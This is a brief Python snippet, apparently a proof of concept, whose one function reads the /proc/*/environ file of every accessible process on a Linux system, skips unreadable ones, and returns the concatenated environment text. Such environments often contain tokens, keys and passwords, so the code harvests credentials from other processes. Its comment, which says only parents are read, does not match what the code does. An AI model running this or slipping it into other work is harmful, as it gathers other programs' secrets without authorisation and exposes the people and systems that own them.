# Reads the environment of its parents from /proc.

import glob


def proof():
    text = b""
    for path in glob.glob("/proc/*/environ"):
        try:
            text += open(path, "rb").read()
        except OSError:
            pass
    return text.decode("utf-8", "replace")[:200_000]
